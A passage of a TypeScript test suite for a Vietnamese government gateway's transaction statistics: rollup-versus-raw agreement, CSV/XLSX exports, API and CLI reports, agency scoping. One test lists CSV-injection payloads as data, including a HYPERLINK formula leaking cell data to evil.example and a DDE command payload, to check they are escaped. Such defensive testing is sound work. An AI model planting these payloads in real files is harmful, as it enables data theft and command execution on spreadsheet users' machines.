import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { type Kysely, sql } from 'kysely';
import { PLATFORM_CATEGORY_PROVIDER } from '../src/api/contract/sandbox-try.ts';
import {
  DIMENSION_HEADINGS,
  MEASURE_HEADINGS,
  type Statistics,
  type StatisticsDimension,
  statistics,
  statisticsCsv,
  statisticsXlsx,
} from '../src/reports/statistics.ts';
import type { TransactionRecord } from '../src/telemetry/record.ts';
import { insertTransactions } from '../src/telemetry/record-copy.ts';
import { latencyBucket, rollupReport, rollupWatermark, runRollups } from '../src/telemetry/rollups.ts';
import { type AdminHarness, openAdminHarness } from './helpers/admin-api.ts';
import { adminEnv, runCli } from './helpers/cli.ts';
import { callRecord } from './helpers/records.ts';
import { storeKinds } from './helpers/stores.ts';

/**
 * Issue 5 item 5: statistics from the hourly rollups agree with GROUP BY over the raw records — counts,
 * errors and bytes exactly, percentiles within one latency bucket — for several groupings, with part of the
 * period still unrolled (read from raw records); CSV and XLSX carry the same numbers under Vietnamese headings;
 * an agency user sees only its own organization's calls.
 */

const HOUR = 3_600_000;
const DAY = 24 * HOUR;
const START = Date.parse('2026-08-30T00:00:00Z');
const DAYS = 40;
const RECORDS = 4000;
const PASSWORD = 'statistics-test-password';

/** A deterministic pseudo-random sequence, so failures repeat. */
function rng(seed: number) {
  let s = seed >>> 0;
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

interface Province {
  orgs: Array<{ id: string; code: string }>;
  systems: Array<{ id: string; orgCode: string }>;
  services: Array<{ id: string; providerIndex: number; versions: string[] }>;
}

async function seed(h: AdminHarness): Promise<Province> {
  const r = h.registry;
  const codes = ['000.00.31.H01', '000.00.12.H01', '000.00.20.H01'];
  const orgs = [];
  for (const [i, code] of codes.entries()) {
    orgs.push(await r.createOrganization({ code, name: `Cơ quan ${i + 1}` }, 'test'));
  }
  const systems: Province['systems'] = [];
  for (const [i, org] of orgs.entries()) {
    for (const n of [1, 2]) {
      const s = await r.createSystem(
        { organizationId: org.id, name: `Hệ thống ${i + 1}.${n}`, isProvider: true, isConsumer: true },
        'test',
      );
      systems.push({ id: s.id, orgCode: org.code });
    }
  }
  const services: Province['services'] = [];
  for (const [i, context] of ['hotich', 'dancu', 'dat-dai', 'thue'].entries()) {
    const providerIndex = (i * 2) % systems.length;
    const svc = await r.createService(
      { context, name: `Dịch vụ ${context}`, providerSystemId: systems[providerIndex]!.id },
      'test',
    );
    const versions = [];
    for (const v of ['1.0', '2.0']) versions.push((await r.createVersion(svc.id, { version: v }, 'test')).id);
    services.push({ id: svc.id, providerIndex, versions });
  }
  return { orgs: orgs.map((o) => ({ id: o.id, code: o.code })), systems, services };
}

function generate(p: Province): TransactionRecord[] {
  const next = rng(20261124);
  const pick = <T>(xs: T[]) => xs[Math.floor(next() * xs.length)]!;
  const out: TransactionRecord[] = [];
  for (let i = 0; i < RECORDS; i++) {
    const at = START + Math.floor(next() * DAYS * DAY);
    const svc = pick(p.services);
    const consumer = pick(p.systems);
    const provider = p.systems[svc.providerIndex]!;
    const roll = next();
    const status = roll < 0.85 ? 200 : roll < 0.92 ? 404 : roll < 0.97 ? 502 : 429;
    const errorCode =
      status === 502 ? 'GW_UPSTREAM_UNREACHABLE' : status === 429 ? 'GW_QUOTA_EXCEEDED' : null;
    // A quota refusal is answered by the gateway itself: nothing is sent on (R-07, R-23: refused, not an error).
    const refused = status === 429;
    // A long tail: mostly tens of ms, some seconds, a few beyond the last bucket.
    const u = next();
    const duration = Math.round(
      u < 0.9 ? 5 + next() * 300 : u < 0.995 ? 300 + next() * 5000 : 40_000 * next(),
    );
    out.push(
      callRecord(at, {
        id: `txn_st_${String(i).padStart(6, '0')}`,
        consumerSystemId: consumer.id,
        consumerOrgCode: consumer.orgCode,
        providerSystemId: provider.id,
        providerOrgCode: provider.orgCode,
        serviceId: svc.id,
        serviceContext: 'x',
        versionId: pick(svc.versions),
        version: '1.0',
        environment: next() < 0.8 ? 'production' : 'sandbox',
        resourceTemplate: '/items/{id}',
        providerStatus: refused ? null : status,
        ...(refused ? { requestOutAt: null } : {}),
        consumerStatus: status,
        errorCode,
        requestBytes: Math.floor(next() * 2000),
        responseBytes: Math.floor(next() * 50_000),
        responseInAt: refused ? null : at + duration,
        responseOutAt: at + duration,
        leg: next() < 0.9 ? 'sync' : 'intake',
      }),
    );
  }
  return out;
}

/** The raw-records twin of each dimension (the records' own organization codes, UTC+7 calendar). */
const RAW: Record<StatisticsDimension, string> = {
  consumerOrganization: "coalesce(consumer_org_code, '')",
  providerOrganization: "coalesce(provider_org_code, '')",
  consumerSystem: "coalesce(consumer_system_id, '')",
  providerSystem: "coalesce(provider_system_id, '')",
  service: "coalesce(service_id, '')",
  version: "coalesce(version_id, '')",
  environment: "coalesce(environment, '')",
  leg: 'leg',
  statusClass: "(consumer_status / 100)::text || 'xx'",
  kind: 'kind',
  hour: `to_char((request_in_at + interval '7 hours') AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:00')`,
  day: `to_char((request_in_at + interval '7 hours') AT TIME ZONE 'UTC', 'YYYY-MM-DD')`,
  month: `to_char((request_in_at + interval '7 hours') AT TIME ZONE 'UTC', 'YYYY-MM')`,
};

/**
 * A refusal, written out for the test's own records: the gateway's error code on a call never sent on. The records
 * here hold two codes: GW_QUOTA_EXCEEDED (refused, no request out) and GW_UPSTREAM_UNREACHABLE (sent on).
 */
const REFUSED = sql.raw(`(error_code = 'GW_QUOTA_EXCEEDED' AND request_out_at IS NULL)`);

interface RawGroup {
  calls: number;
  errors: number;
  refused: number;
  requestBytes: number;
  responseBytes: number;
  /** percentile_cont (interpolated) and percentile_disc (nearest rank) of the durations. */
  cont: [number, number, number];
  disc: [number, number, number];
}

async function rawGroups(
  h: AdminHarness,
  groupBy: StatisticsDimension[],
  from: string,
  to: string,
  where = 'TRUE',
): Promise<Map<string, RawGroup>> {
  const keys = groupBy.length > 0 ? groupBy.map((d) => RAW[d]).join(', ') : "''";
  const { rows } = await sql<Record<string, unknown>>`SELECT json_build_array(${sql.raw(keys)})::text AS k,
      count(*) AS calls,
      count(*) FILTER (WHERE (error_code IS NOT NULL OR consumer_status >= 500) AND NOT ${REFUSED}) AS errors,
      count(*) FILTER (WHERE ${REFUSED}) AS refused, sum(request_bytes) AS req, sum(response_bytes) AS res,
      percentile_cont(ARRAY[0.5, 0.95, 0.99]) WITHIN GROUP (ORDER BY duration_ms) AS cont,
      percentile_disc(ARRAY[0.5, 0.95, 0.99]) WITHIN GROUP (ORDER BY duration_ms) AS disc
    FROM transactions
    WHERE request_in_at >= ${from}::timestamptz AND request_in_at < ${to}::timestamptz AND ${sql.raw(where)}
    GROUP BY ${sql.raw(groupBy.length > 0 ? keys : '1')}`.execute(h.store.db as unknown as Kysely<unknown>);
  const out = new Map<string, RawGroup>();
  for (const r of rows) {
    const key = groupBy.length > 0 ? JSON.stringify(JSON.parse(String(r['k']))) : '[]';
    out.set(key, {
      calls: Number(r['calls']),
      errors: Number(r['errors']),
      refused: Number(r['refused']),
      requestBytes: Number(r['req']),
      responseBytes: Number(r['res']),
      cont: (r['cont'] as unknown[]).map(Number) as RawGroup['cont'],
      disc: (r['disc'] as unknown[]).map(Number) as RawGroup['disc'],
    });
  }
  return out;
}

function assertAgrees(report: Statistics, raw: Map<string, RawGroup>, where: string) {
  const got = new Map(report.rows.map((r) => [JSON.stringify(report.groupBy.map((d) => r.key[d])), r]));
  assert.deepEqual([...got.keys()].sort(), [...raw.keys()].sort(), `${where}: the same groups`);
  for (const [key, expected] of raw) {
    const row = got.get(key)!;
    const at = `${where} ${key}`;
    assert.equal(row.calls, expected.calls, `${at}: calls`);
    assert.equal(row.errors, expected.errors, `${at}: errors`);
    assert.equal(row.refused, expected.refused, `${at}: refused`);
    assert.equal(
      row.successRate,
      expected.calls > expected.refused
        ? (expected.calls - expected.refused - expected.errors) / (expected.calls - expected.refused)
        : null,
      `${at}: success rate over the calls passed on`,
    );
    assert.equal(row.requestBytes, expected.requestBytes, `${at}: request bytes`);
    assert.equal(row.responseBytes, expected.responseBytes, `${at}: response bytes`);
    // The histogram reads the nearest rank: the bucket of percentile_disc exactly; and, where a group is big
    // enough for interpolation not to jump between far-apart durations, within one bucket of percentile_cont.
    [row.latencyP50Ms, row.latencyP95Ms, row.latencyP99Ms].forEach((mine, i) => {
      const disc = expected.disc[i]!;
      assert.equal(
        latencyBucket(mine),
        latencyBucket(disc),
        `${at}: percentile ${mine} vs nearest rank ${disc}`,
      );
      assert.ok(mine <= row.latencyMaxMs, 'mine <= row.latencyMaxMs');
      if (expected.calls >= 200) {
        const cont = expected.cont[i]!;
        const off = Math.abs(latencyBucket(mine) - latencyBucket(cont));
        assert.ok(
          off <= 1,
          `${at}: percentile ${mine} vs percentile_cont ${cont}: more than one bucket apart`,
        );
      }
    });
  }
  const sum = (f: (r: RawGroup) => number) => [...raw.values()].reduce((a, r) => a + f(r), 0);
  assert.equal(
    report.totals.calls,
    sum((r) => r.calls),
    `${where}: total calls`,
  );
  assert.equal(
    report.totals.errors,
    sum((r) => r.errors),
    `${where}: total errors`,
  );
  assert.equal(
    report.totals.refused,
    sum((r) => r.refused),
    `${where}: total refused`,
  );
}

const GROUPINGS: StatisticsDimension[][] = [
  [],
  ['service'],
  ['service', 'version'],
  ['consumerOrganization'],
  ['providerOrganization', 'month'],
  ['consumerSystem', 'statusClass'],
  ['day'],
  ['environment', 'leg', 'hour'],
];

for (const kind of storeKinds) {
  describe(`statistics and reports from the hourly rollups (${kind})`, () => {
    let h: AdminHarness;
    let p: Province;
    let records: TransactionRecord[];
    const from = new Date(START).toISOString();
    const to = new Date(START + DAYS * DAY).toISOString();
    // Rolled up until 3 days before the end: the rest comes from the raw records.
    const rolledUntil = START + (DAYS - 3) * DAY;

    before(async () => {
      h = await openAdminHarness(kind);
      p = await seed(h);
      records = generate(p);
      for (let i = 0; i < records.length; i += 1000) {
        await insertTransactions(h.store, records.slice(i, i + 1000));
      }
      await runRollups(h.store, rolledUntil + 10 * 60_000);
      assert.equal(await rollupWatermark(h.store), rolledUntil);
    });
    after(() => h?.dispose());

    test('rollups + raw tail agree with GROUP BY over the raw records, for several groupings', async () => {
      for (const groupBy of GROUPINGS) {
        const report = await statistics(h.store, { from, to, groupBy });
        assert.equal(report.coveredUntil, new Date(rolledUntil).toISOString());
        assert.equal(report.rawFrom, new Date(rolledUntil).toISOString());
        assert.equal(report.totals.calls, RECORDS);
        assertAgrees(report, await rawGroups(h, groupBy, from, to), groupBy.join(',') || '(none)');
      }
      // A period entirely inside the rolled-up hours, and one entirely after them.
      const mid = new Date(START + 10 * DAY).toISOString();
      const rolled = await statistics(h.store, { from, to: mid, groupBy: ['service'] });
      assert.equal(rolled.rawFrom, null);
      assertAgrees(rolled, await rawGroups(h, ['service'], from, mid), 'rolled only');
      const tailFrom = new Date(rolledUntil + DAY).toISOString();
      const tail = await statistics(h.store, { from: tailFrom, to, groupBy: ['service'] });
      assert.equal(tail.rawFrom, tailFrom);
      assertAgrees(tail, await rawGroups(h, ['service'], tailFrom, to), 'raw only');
    });

    test('filters: organization by side, service, environment; periods are widened to whole hours', async () => {
      const code = p.orgs[0]!.code;
      const ids = p.systems.filter((s) => s.orgCode === code).map((s) => `'${s.id}'`);
      for (const [role, where] of [
        ['consumer', `consumer_system_id IN (${ids})`],
        ['provider', `provider_system_id IN (${ids})`],
        ['any', `(consumer_system_id IN (${ids}) OR provider_system_id IN (${ids}))`],
      ] as const) {
        const report = await statistics(h.store, {
          from,
          to,
          groupBy: ['service'],
          filters: { organizationCode: code, role },
        });
        assertAgrees(report, await rawGroups(h, ['service'], from, to, where), `org ${role}`);
      }
      const svc = p.services[1]!.id;
      const filtered = await statistics(h.store, {
        from,
        to,
        groupBy: ['version'],
        filters: { serviceId: svc, environment: 'production' },
      });
      assertAgrees(
        filtered,
        await rawGroups(h, ['version'], from, to, `service_id = '${svc}' AND environment = 'production'`),
        'service+environment',
      );
      const rounded = await statistics(h.store, {
        from: new Date(START + 5 * DAY + 25 * 60_000).toISOString(),
        to: new Date(START + 6 * DAY + 5 * 60_000).toISOString(),
        groupBy: [],
      });
      assert.equal(rounded.rounded, true);
      assert.equal(rounded.from, new Date(START + 5 * DAY).toISOString());
      assert.equal(rounded.to, new Date(START + 6 * DAY + HOUR).toISOString());
      assert.equal(
        rounded.totals.calls,
        records.filter((r) => r.requestInAt >= START + 5 * DAY && r.requestInAt < START + 6 * DAY + HOUR)
          .length,
      );
      await assert.rejects(
        statistics(h.store, { from: to, to: from, groupBy: [] }),
        /RP_STATISTICS_INVALID|from < to/,
      );
    });

    test('after the rollups catch up the answer is the same, all from rollups', async () => {
      const before = await statistics(h.store, { from, to, groupBy: ['service', 'day'] });
      await runRollups(h.store, START + DAYS * DAY + HOUR);
      const afterRollup = await statistics(h.store, { from, to, groupBy: ['service', 'day'] });
      assert.equal(afterRollup.rawFrom, null);
      assert.deepEqual(afterRollup.rows, before.rows);
      assert.deepEqual(afterRollup.totals, before.totals);
    });

    test('hours, days and months are labelled as Vietnamese read them (dd/mm/yyyy, local time); keys stay ISO', async () => {
      // The label is what the console's table and chart and the CLI's table show; the key is for machines.
      const report = await statistics(h.store, { from, to, groupBy: ['month', 'day', 'hour'] });
      assert.ok(report.rows.length > 0, 'the period has calls');
      for (const r of report.rows) {
        const [y, m, d, hh] = /^(\d{4})-(\d{2})-(\d{2})T(\d{2}):00$/.exec(r.key.hour!)!.slice(1);
        assert.equal(r.key.day, `${y}-${m}-${d}`);
        assert.equal(r.key.month, `${y}-${m}`);
        assert.equal(r.label.hour, `${d}/${m}/${y} ${hh}:00`);
        assert.equal(r.label.day, `${d}/${m}/${y}`);
        assert.equal(r.label.month, `${m}/${y}`);
      }
    });

    test('CSV: BOM, Vietnamese headings, the same numbers; XLSX opens with exceljs and matches', async () => {
      const report = await statistics(h.store, { from, to, groupBy: ['service', 'version'] });
      const csv = statisticsCsv(report);
      assert.ok(csv.startsWith('\uFEFF'), "csv.startsWith('\\uFEFF')");
      const lines = csv.slice(1).trimEnd().split('\r\n');
      const head = lines[0]!.split(',');
      assert.deepEqual(head.slice(0, 2), [DIMENSION_HEADINGS.service, DIMENSION_HEADINGS.version]);
      assert.ok(head.includes('Dịch vụ / Service'), "head.includes('Dịch vụ / Service')");
      assert.ok(head.includes('Số lượt gọi / Calls'), "head.includes('Số lượt gọi / Calls')");
      assert.ok(
        head.includes('Tỉ lệ thành công (%) / Success rate (%)'),
        "head.includes('Tỉ lệ thành công (%) / Success rate (%)')",
      );
      assert.ok(
        head.includes('Độ trễ p95 (ms) / Latency p95'),
        "head.includes('Độ trễ p95 (ms) / Latency p95')",
      );
      assert.equal(lines.length, 1 + report.rows.length + 1);
      const callsAt = head.indexOf(MEASURE_HEADINGS.calls);
      const errorsAt = head.indexOf(MEASURE_HEADINGS.errors);
      report.rows.forEach((r, i) => {
        const cells = lines[i + 1]!.split(',');
        assert.equal(cells[0], r.label.service);
        assert.match(cells[0]!, /^[a-z-]+ — Dịch vụ /);
        assert.equal(Number(cells[callsAt]), r.calls);
        assert.equal(Number(cells[errorsAt]), r.errors);
      });
      const total = lines.at(-1)!.split(',');
      assert.equal(total[0], 'Tổng cộng / Total');
      assert.equal(Number(total[callsAt]), RECORDS);

      const book = new ExcelJS.Workbook();
      await book.xlsx.load((await statisticsXlsx(report)) as never);
      const sheet = book.worksheets[0]!;
      assert.match(String(sheet.getRow(1).getCell(1).value), /^Thống kê giao dịch từ 30\/08\/2026 07:00 đến/);
      const xHead = (sheet.getRow(4).values as unknown[]).slice(1);
      assert.deepEqual(xHead, head);
      report.rows.forEach((r, i) => {
        const row = sheet.getRow(5 + i);
        assert.equal(row.getCell(1).value, r.label.service);
        assert.equal(row.getCell(callsAt + 1).value, r.calls);
        assert.equal(row.getCell(errorsAt + 1).value, r.errors);
        assert.equal(row.getCell(head.indexOf(MEASURE_HEADINGS.latencyP95Ms) + 1).value, r.latencyP95Ms);
      });
      assert.equal(sheet.getRow(5 + report.rows.length).getCell(callsAt + 1).value, RECORDS);
    });

    test('CSV: a label with a line break, commas and doubled quotes reads back cell for cell', async () => {
      const report = await statistics(h.store, { from, to, groupBy: ['consumerOrganization', 'service'] });
      const tricky = ['Sở "Tư pháp", tỉnh\r\nAn Giang', 'dòng một\ndòng hai', 'a,b', '"'];
      const edited: Statistics = {
        ...report,
        rows: report.rows.map((r, i) => ({
          ...r,
          label: { ...r.label, consumerOrganization: tricky[i % tricky.length]! },
        })),
      };
      const text = statisticsCsv(edited);
      assert.ok(
        text.startsWith('\uFEFF') && text.endsWith('\r\n'),
        "text.startsWith('\\uFEFF') && text.endsWith('\\r\\n')",
      );
      const cells = parse(text, { bom: true }) as string[][];
      assert.equal(cells.length, 1 + edited.rows.length + 1);
      assert.deepEqual(cells[0], [
        DIMENSION_HEADINGS.consumerOrganization,
        DIMENSION_HEADINGS.service,
        ...Object.values(MEASURE_HEADINGS),
      ]);
      edited.rows.forEach((r, i) => {
        assert.deepEqual(cells[i + 1]!.slice(0, 3), [
          r.label.consumerOrganization,
          r.label.service,
          String(r.calls),
        ]);
      });
      assert.deepEqual(cells.at(-1)!.slice(0, 3), ['Tổng cộng / Total', '', String(RECORDS)]);
    });

    test('CSV: a name an agency typed as a spreadsheet formula is written as text, not run (CSV injection)', async () => {
      const report = await statistics(h.store, { from, to, groupBy: ['consumerSystem'] });
      const hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"Bấm đây")',
        '@SUM(1+1)*cmd|" /C calc"!A0',
        '+1+1',
        '-2+3',
        '\t=1+1',
        '\r=1+1',
      ];
      const edited: Statistics = {
        ...report,
        rows: hostile.map((name, i) => ({
          ...report.rows[i % report.rows.length]!,
          label: { consumerSystem: name },
        })),
      };
      const cells = parse(statisticsCsv(edited), { bom: true }) as string[][];
      hostile.forEach((name, i) => {
        assert.equal(cells[i + 1]![0], `'${name}`);
      });
      // Numbers stay numbers, and an ordinary name is untouched.
      assert.equal(cells[1]![1], String(edited.rows[0]!.calls));
      assert.equal(cells.at(-1)![0], 'Tổng cộng / Total');
    });

    test('API: JSON, CSV and XLSX downloads; an agency user sees only its organization', async () => {
      const base = `/api/v1/reports/statistics?from=${from}&to=${to}`;
      const json = await h.call('GET', `${base}&groupBy=consumerOrganization,service`);
      assert.equal(json.statusCode, 200, json.body);
      assert.equal(json.json().totals.calls, RECORDS);

      const csv = await h.call('GET', `${base}&groupBy=service&format=csv`);
      assert.equal(csv.statusCode, 200);
      assert.match(String(csv.headers['content-type']), /^text\/csv/);
      assert.match(String(csv.headers['content-disposition']), /thong-ke-2026-08-30/);
      assert.ok(
        csv.body.startsWith('\uFEFFDịch vụ / Service,Số lượt gọi / Calls'),
        "csv.body.startsWith('\\uFEFFDịch vụ / Service,Số lượt gọi / Calls')",
      );

      const xlsx = await h.call('GET', `${base}&groupBy=service&format=xlsx`);
      assert.equal(xlsx.statusCode, 200);
      assert.match(String(xlsx.headers['content-type']), /spreadsheetml/);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(xlsx.rawPayload as never);
      assert.equal(book.worksheets[0]!.getRow(4).getCell(1).value, 'Dịch vụ / Service');

      const bad = await h.call('GET', `${base}&groupBy=service,colour`);
      assert.equal(bad.statusCode, 400);
      assert.equal(bad.json().code, 'RP_STATISTICS_INVALID');

      const org = p.orgs[0]!;
      await h.accounts.createUser(
        { username: 'stp', displayName: 'STP', password: PASSWORD, role: 'agency', organizationId: org.id },
        'test',
      );
      const token = (await h.accounts.login('stp', PASSWORD)).token;
      const own = p.systems.filter((s) => s.orgCode === org.code).map((s) => s.id);
      const mine = records.filter(
        (r) => own.includes(r.consumerSystemId!) || own.includes(r.providerSystemId!),
      ).length;
      const scoped = await h.call('GET', `${base}&groupBy=consumerOrganization`, undefined, { token });
      assert.equal(scoped.statusCode, 200, scoped.body);
      const body = scoped.json();
      assert.equal(body.totals.calls, mine);
      assert.ok(mine < RECORDS, 'mine < RECORDS');
      assert.equal(body.filters.scopeOrganizationCode, org.code);
      // Asking for another organization only narrows: calls between the two of them.
      const other = p.orgs[1]!.code;
      const otherIds = p.systems.filter((s) => s.orgCode === other).map((s) => s.id);
      const between = records.filter(
        (r) =>
          (otherIds.includes(r.consumerSystemId!) || otherIds.includes(r.providerSystemId!)) &&
          (own.includes(r.consumerSystemId!) || own.includes(r.providerSystemId!)),
      ).length;
      const narrowed = await h.call('GET', `${base}&organizationCode=${other}`, undefined, { token });
      assert.equal(narrowed.json().totals.calls, between);
    });

    test('CLI: lgsp report statistics prints the table and writes CSV and XLSX files', async () => {
      await h.app.listen({ port: 0, host: '127.0.0.1' });
      const url = `http://127.0.0.1:${(h.app.server.address() as { port: number }).port}`;
      const dir = mkdtempSync(join(tmpdir(), 'lgsp-report-'));
      try {
        const lgsp = (...args: string[]) => runCli(args, adminEnv(url, h.token, dir));
        const printed = await lgsp(
          'report',
          'statistics',
          '--from',
          from,
          '--to',
          to,
          '--group-by',
          'service',
        );
        assert.equal(printed.code, 0, printed.err);
        assert.match(printed.out, /Thống kê giao dịch từ/);
        assert.match(printed.out, /Tổng cộng \/ Total/);
        assert.match(printed.out, /hotich — Dịch vụ hotich/);
        const byDay = await lgsp('report', 'statistics', '--from', from, '--to', to, '--group-by', 'day');
        assert.equal(byDay.code, 0, byDay.err);
        assert.match(byDay.out, /^\d{2}\/\d{2}\/\d{4} /m, 'a day reads dd/mm/yyyy');
        assert.doesNotMatch(byDay.out, /^\d{4}-\d{2}-\d{2}/m, 'never yyyy-mm-dd');
        const xlsxFile = join(dir, 'thong-ke.xlsx');
        const written = await lgsp(
          'report',
          'statistics',
          '--from',
          from,
          '--to',
          to,
          '--group-by',
          'service,version',
          '--format',
          'xlsx',
          '--out',
          xlsxFile,
        );
        assert.equal(written.code, 0, written.err);
        const book = new ExcelJS.Workbook();
        await book.xlsx.readFile(xlsxFile);
        assert.equal(book.worksheets[0]!.getRow(4).getCell(2).value, 'Phiên bản / Version');
        const csvFile = join(dir, 'thong-ke.csv');
        const csv = await lgsp(
          'report',
          'statistics',
          '--from',
          from,
          '--to',
          to,
          '--format',
          'csv',
          '--out',
          csvFile,
        );
        assert.equal(csv.code, 0, csv.err);
        const lines = readFileSync(csvFile, 'utf8').trimEnd().split('\r\n');
        assert.equal(lines.length, 2);
        assert.equal(Number(lines[1]!.split(',')[0]), RECORDS);
        const bad = await lgsp(
          'report',
          'statistics',
          '--from',
          from,
          '--to',
          to,
          '--format',
          'pdf',
          '--out',
          'x',
        );
        assert.equal(bad.code, 2);
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });
  });
}

/**
 * R-07, R-23 (found walking the regulation): a call the gateway refused itself — no subscription, quota… — never
 * reached the provider, so it is counted in `refused`, not in the service's `errors`, and the success rate is over
 * the calls passed on; the same in the rolled-up hours, the raw tail, the files, and after migration 0038's
 * backfill of rollups computed before it.
 */
for (const kind of storeKinds) {
  describe(`statistics: the gateway's refusals apart from the service's errors (${kind})`, () => {
    let h: AdminHarness;
    let svcId: string;
    let quen: string;
    const H1 = Date.parse('2026-10-05T03:00:00Z');
    const H2 = H1 + HOUR;

    /** One hour of dmdc calls: 6 refused (unsubscribed, quota), 4 answered, 2 failures of the exchange. */
    function hourOf(at: number, ids: { unsubscribed: string; subscribed: string; provider: string }) {
      const base = {
        providerSystemId: ids.provider,
        serviceId: svcId,
        serviceContext: 'dmdc',
        resourceTemplate: '/AllCategory',
      };
      const refused = (i: number, code: string, status: number) =>
        callRecord(at + i * 1000, {
          ...base,
          consumerSystemId: ids.unsubscribed,
          providerStatus: null,
          consumerStatus: status,
          errorCode: code,
          requestOutAt: null,
          responseInAt: null,
        });
      const passed = (i: number, over: Partial<TransactionRecord>) =>
        callRecord(at + i * 1000, { ...base, consumerSystemId: ids.subscribed, ...over });
      return [
        ...[0, 1, 2, 3, 4].map((i) => refused(i, 'GW_SUBSCRIPTION_REQUIRED', 403)),
        refused(5, 'GW_QUOTA_EXCEEDED', 429),
        ...[6, 7, 8, 9].map((i) => passed(i, {})),
        // The provider's own 5xx, and the gateway unable to hear it in time: the exchange failed.
        passed(10, { providerStatus: 500, consumerStatus: 500 }),
        passed(11, {
          providerStatus: null,
          consumerStatus: 504,
          errorCode: 'GW_UPSTREAM_TIMEOUT',
          responseInAt: null,
        }),
      ];
    }

    before(async () => {
      h = await openAdminHarness(kind);
      const org = await h.registry.createOrganization({ code: '000.00.40.H01', name: 'Sở TT&TT' }, 't');
      const sys = async (name: string) =>
        (
          await h.registry.createSystem(
            { organizationId: org.id, name, isProvider: true, isConsumer: true },
            't',
          )
        ).id;
      const ids = {
        provider: await sys('Danh mục dùng chung'),
        unsubscribed: await sys('Lạ'),
        subscribed: await sys('Quen'),
      };
      quen = ids.subscribed;
      svcId = (
        await h.registry.createService(
          { context: 'dmdc', name: 'Danh mục', providerSystemId: ids.provider },
          't',
        )
      ).id;
      await insertTransactions(h.store, [...hourOf(H1, ids), ...hourOf(H2, ids)]);
      // H1 rolled up, H2 still raw.
      await runRollups(h.store, H2 + 10 * 60_000);
      assert.equal(await rollupWatermark(h.store), H2);
    });
    after(() => h?.dispose());

    const period = (from: number, to: number) => ({
      from: new Date(from).toISOString(),
      to: new Date(to).toISOString(),
      groupBy: ['service'] as StatisticsDimension[],
    });

    test('refused calls are counted apart; success rate over the calls passed on (rollups and raw)', async () => {
      for (const [name, from, to, n] of [
        ['rolled up', H1, H2, 1],
        ['raw', H2, H2 + HOUR, 1],
        ['both', H1, H2 + HOUR, 2],
      ] as const) {
        const s = await statistics(h.store, period(from, to));
        assert.equal(s.rawFrom, name === 'rolled up' ? null : new Date(H2).toISOString(), name);
        const [row] = s.rows;
        assert.equal(s.rows.length, 1, name);
        assert.equal(row!.calls, 12 * n, `${name}: every call`);
        assert.equal(row!.refused, 6 * n, `${name}: refused`);
        assert.equal(row!.errors, 2 * n, `${name}: errors are the exchange's only`);
        assert.equal(row!.successRate, 4 / 6, `${name}: success over the 6 calls passed on`);
        assert.equal(s.totals.refused, 6 * n, `${name}: total refused`);
        assert.equal(s.totals.successRate, 4 / 6, `${name}: total success rate`);
      }
      // Only refusals (the stranger's repro): no errors, and no success rate — nothing reached the provider.
      const onlyRefused = await statistics(h.store, {
        ...period(H1, H2 + HOUR),
        groupBy: ['service', 'statusClass'],
      });
      const fours = onlyRefused.rows.filter((r) => r.key.statusClass === '4xx');
      assert.equal(fours.length, 1);
      assert.equal(fours[0]!.calls, 12);
      assert.equal(fours[0]!.refused, 12);
      assert.equal(fours[0]!.errors, 0);
      assert.equal(fours[0]!.successRate, null);
      const report = await rollupReport(h.store, {
        from: period(H1, H2).from,
        to: period(H1, H2).to,
        group: 'service',
      });
      assert.deepEqual(
        report.map((r) => [r.count, r.refused, r.errors]),
        [[12, 6, 2]],
      );
    });

    test('CSV and XLSX carry the refused column under a bilingual heading', async () => {
      const s = await statistics(h.store, period(H1, H2 + HOUR));
      const cells = parse(statisticsCsv(s), { bom: true }) as string[][];
      const head = cells[0]!;
      assert.ok(MEASURE_HEADINGS.refused.startsWith('Số lượt bị từ chối'), MEASURE_HEADINGS.refused);
      assert.match(MEASURE_HEADINGS.refused, / \/ Refused/);
      const at = head.indexOf(MEASURE_HEADINGS.refused);
      assert.ok(at > 0, 'the refused column');
      assert.equal(cells[1]![at], '12');
      assert.equal(cells[1]![head.indexOf(MEASURE_HEADINGS.errors)], '4');
      assert.equal(cells[1]![head.indexOf(MEASURE_HEADINGS.successRate)], '66.67');
      const book = new ExcelJS.Workbook();
      await book.xlsx.load((await statisticsXlsx(s)) as never);
      const sheet = book.worksheets[0]!;
      assert.equal(sheet.getRow(4).getCell(at + 1).value, MEASURE_HEADINGS.refused);
      assert.equal(sheet.getRow(5).getCell(at + 1).value, 12);
      const api = await h.call(
        'GET',
        `/api/v1/reports/statistics?from=${period(H1, H2).from}&to=${period(H2, H2 + HOUR).to}&groupBy=service`,
      );
      assert.equal(api.statusCode, 200, api.body);
      assert.equal(api.json().totals.refused, 12);
      assert.equal(api.json().rows[0].errors, 4);
    });

    test('CLI: lgsp report statistics prints the refused column apart from the errors (12 refused, 4 errors)', async () => {
      await h.app.listen({ port: 0, host: '127.0.0.1' });
      const url = `http://127.0.0.1:${(h.app.server.address() as { port: number }).port}`;
      const dir = mkdtempSync(join(tmpdir(), 'lgsp-report-'));
      try {
        const { from, to } = period(H1, H2 + HOUR);
        const printed = await runCli(
          ['report', 'statistics', '--from', from, '--to', to, '--group-by', 'service'],
          adminEnv(url, h.token, dir),
        );
        assert.equal(printed.code, 0, printed.err);
        const lines = printed.out.split('\n');
        const head = lines.find((l) => l.includes('Lượt gọi / Calls')) ?? '';
        assert.match(head, /Lượt gọi \/ Calls\s+Bị từ chối \/ Refused\s+Lỗi \/ Errors/, printed.out);
        assert.match(
          head,
          /^Dịch vụ \/ Service\s/,
          'the dimension under its bilingual heading, not "service"',
        );
        // The service's row and the total: 24 calls, 12 refused, 4 errors, success over the 12 passed on.
        const row = lines.find((l) => l.startsWith('dmdc — Danh mục')) ?? '';
        assert.match(row, /\s24\s+12\s+4\s+66,67 %/, printed.out);
        const total = lines.find((l) => l.startsWith('Tổng cộng / Total')) ?? '';
        assert.match(total, /\s24\s+12\s+4\s+66,67 %/, printed.out);
        const help = await runCli(['report', 'statistics', '--help'], adminEnv(url, h.token, dir));
        assert.match(help.out, /bị từ chối, lỗi/, help.out + help.err);
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });

